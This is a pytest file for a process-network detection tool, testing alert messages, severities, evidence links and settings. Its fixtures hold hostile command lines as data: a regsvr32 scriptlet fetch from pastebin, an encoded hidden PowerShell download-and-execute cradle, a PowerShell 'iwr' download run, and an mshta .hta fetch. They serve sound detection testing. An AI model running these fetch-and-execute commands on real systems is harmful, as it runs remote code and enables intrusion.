"""The P2 detections as an analyst meets them: what the alert says and links to, how settings
change them, and the engine writing them to the alerts table."""

from __future__ import annotations

import copy
import datetime as dt
from pathlib import Path
from typing import Any

import orjson

from lurewatch.baselines.build import build_baselines
from lurewatch.config import Settings, load_settings
from lurewatch.detections.base import Example, Finding, QueryDetection
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.engine import run_detections
from lurewatch.detections.examples_proc import (
    WHEN,
    launched,
    merge_into,
    proc_conn,
    proc_start,
    running,
    scenario,
)
from lurewatch.detections.registry import by_id
from lurewatch.detections.testing import load_example
from lurewatch.store import Store

REGSVR = "C:\\Windows\\System32\\regsvr32.exe"
SQUIBLYDOO = "regsvr32.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"
TOOL = "C:\\Users\\alice\\Downloads\\invoice_viewer.exe"


def _run(rule: str, events: dict[str, Any], settings: Settings | None = None) -> list[Finding]:
    settings = copy.deepcopy(settings or Settings())
    det = by_id(rule)
    assert isinstance(det, QueryDetection)
    with Store(":memory:") as store:
        load_example(store, Example("t", True, events), settings)
        build_baselines(store, settings)
        return det.run(DetectionContext(settings=settings, store=store))


def test_alert_names_process_command_line_parent_user_and_links_evidence() -> None:
    events = scenario(
        launched(
            REGSVR,
            SQUIBLYDOO,
            "104.20.208.21",
            80,
            parent="C:\\Windows\\System32\\cmd.exe",
            parent_command_line="cmd.exe /k",
        )
    )
    (f,) = _run("proc_should_not_connect", events)
    assert f.severity == "high"
    for words in ("regsvr32.exe", SQUIBLYDOO, "C:\\Windows\\System32\\cmd.exe", "CORP\\alice"):
        assert words in f.message
    assert "104.20.208.21:80" in f.message and "internet" in f.message
    assert f.entities["command_line"] == SQUIBLYDOO
    assert f.entities["parent"] == "C:\\Windows\\System32\\cmd.exe"
    assert f.entities["user"] == "CORP\\alice"
    assert f.entities["host"] == "ws01.corp.example"
    assert f.entities["ip"] == "104.20.208.21"
    kinds = [e["kind"] for e in f.evidence]
    assert kinds == ["proc_net", "process"]
    conn = events["proc_net"][-1]
    assert f.evidence[0] == {
        "event_id": conn["event.id"],
        "kind": "proc_net",
        "source": f"example-sysmon.evtx@{conn['log.offset']}",
    }
    assert f.evidence[1]["event_id"] == events["process"][-1]["event.id"]


def test_one_alert_per_process_counting_all_its_connections() -> None:
    p = proc_start("C:\\Windows\\System32\\mshta.exe", "mshta.exe http://x.example/a.hta")
    conns = [
        proc_conn(p, "10.0.0.9", 80, at=WHEN + dt.timedelta(seconds=i)) for i in range(1, 15)
    ] + [proc_conn(p, "198.51.100.1", 443, at=WHEN + dt.timedelta(minutes=1))]
    (f,) = _run("proc_should_not_connect", scenario({"process": [p], "proc_net": conns}))
    assert f.severity == "high"  # one of them reached the internet
    assert f.entities["connections"] == 15
    assert "14 more connection(s)" in f.message
    assert len([e for e in f.evidence if e["kind"] == "proc_net"]) == 10


def test_internal_only_is_medium_and_drop_silences() -> None:
    events = scenario(launched(REGSVR, SQUIBLYDOO, "10.0.3.3", 80))
    (f,) = _run("proc_should_not_connect", events)
    assert f.severity == "medium"
    s = Settings()
    s.processes.never_network_drop = ["regsvr32.exe"]
    assert _run("proc_should_not_connect", events, s) == []


def test_cmdline_alert_shows_decoded_powershell_and_parent_cradle() -> None:
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    (f,) = _run(
        "proc_suspicious_cmdline_network",
        scenario(launched(ps, f"powershell -w hidden -enc {blob}", "203.0.113.9", 80)),
    )
    assert script in f.message and f.entities["decoded_command"] == script
    assert "encoded_powershell" in f.entities["cmdline_findings"]

    # A child with an innocent command line, started by a cradle: the parent's line counts.
    child = proc_start(
        "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe",
        "a.exe",
        parent=ps,
        parent_command_line="powershell iwr http://203.0.113.9/a.exe -OutFile a.exe; .\\a.exe",
    )
    (f,) = _run(
        "proc_suspicious_cmdline_network",
        scenario({"process": [child], "proc_net": [proc_conn(child, "203.0.113.9", 443)]}),
    )
    assert "its parent powershell.exe's command line carries download cradle" in f.message


def test_url_openers_are_configurable() -> None:
    app = "C:\\Program Files\\Viewer\\viewer.exe"
    events = scenario(launched(app, f'"{app}" https://docs.example/report', "198.51.100.4", 443))
    assert len(_run("proc_suspicious_cmdline_network", events)) == 1
    s = Settings()
    s.processes.url_openers = [*s.processes.url_openers, "viewer.exe"]
    assert _run("proc_suspicious_cmdline_network", events, s) == []


def test_learning_days_and_allow() -> None:
    fresh = launched(TOOL, TOOL, "185.220.101.4", 443)  # no history at all
    assert _run("proc_first_network_use", fresh) == []
    s = Settings()
    s.processes.learning_days = 0
    (f,) = _run("proc_first_network_use", fresh, s)
    assert f.severity == "high"
    s.processes.allow = ["invoice_viewer.exe"]
    assert _run("proc_first_network_use", fresh, s) == []


def test_first_use_is_reported_once_per_identity() -> None:
    a = launched(TOOL, TOOL, "185.220.101.4", 443)
    b = launched(
        TOOL, TOOL, "185.220.101.4", 443, host="ws02.corp.example", at=WHEN.replace(hour=11)
    )
    c = launched(TOOL.replace("alice", "bob"), TOOL, "185.220.101.5", 443, at=WHEN.replace(hour=12))
    found = _run("proc_first_network_use", scenario(a, b, c))
    assert len(found) == 1
    assert found[0].entities["host"] == "ws01.corp.example"
    # ... while the per-host rule sees it arrive on each host.
    per_host = _run("proc_user_writable_first_connection", scenario(a, b, c))
    assert sorted(f.entities["host"] for f in per_host) == [
        "ws01.corp.example",
        "ws02.corp.example",
    ]
    assert per_host[1].entities["hosts_before"] == 1


def test_new_protocol_severity_for_document_apps() -> None:
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    ldap = _run("proc_new_protocol", scenario(launched(word, "winword.exe", "10.0.0.10", 389)))
    assert [f.severity for f in ldap] == ["medium"]
    assert "before this only: https to internet" in ldap[0].message
    webdav = "winword.exe /n \\\\files.example@SSL\\DavWWWRoot\\q.docx"
    dav = _run("proc_new_protocol", scenario(launched(word, webdav, "198.51.100.8", 80)))
    assert [f.severity for f in dav] == ["high"]
    other = _run("proc_new_protocol", scenario(running("C:\\Tools\\sync.exe", "10.0.0.10", 389)))
    assert other == []  # never used the network before: that is proc_first_network_use's case


def test_engine_writes_p2_alerts(tmp_path: Path) -> None:
    events = merge_into(
        scenario(launched(REGSVR, SQUIBLYDOO, "104.20.208.21", 80)),
        launched(TOOL, TOOL, "185.220.101.4", 443),
    )
    settings = Settings()
    with Store(tmp_path / "p2.duckdb") as store:
        load_example(store, Example("t", True, events), settings)
        build_baselines(store, settings)
        ctx = DetectionContext(settings=settings, store=store)
        summary = run_detections(ctx)
        assert not summary.errors
        assert summary.alerts["proc_should_not_connect"] == 1
        assert summary.alerts["proc_suspicious_cmdline_network"] == 1
        # regsvr32.exe and the downloaded tool: neither had used the network before.
        assert summary.alerts["proc_first_network_use"] == 2
        rows = store.rows("SELECT * FROM alerts WHERE clause = 'P2' ORDER BY \"rule.id\"")
        for r in rows:
            assert orjson.loads(r["entities"])["process"]
            assert all(
                {"event_id", "kind", "source"} <= set(e) for e in orjson.loads(r["evidence"])
            )
        # Running again finds the same alerts, not new ones.
        run_detections(ctx)
        assert len(store.rows("SELECT * FROM alerts WHERE clause = 'P2'")) == len(rows)


def test_processes_section_in_the_config_file(tmp_path: Path) -> None:
    path = tmp_path / "lurewatch.toml"
    path.write_text(
        "[processes]\nlearning_days = 0\nnever_network_extra = ['mytool.exe']\n"
        "never_network_drop = ['msbuild.exe']\nallow = ['contososync.exe']\n"
    )
    s = load_settings(path)
    assert s.processes.learning_days == 0
    assert s.processes.never_network_extra == ["mytool.exe"]
    assert "chrome.exe" in s.processes.url_openers
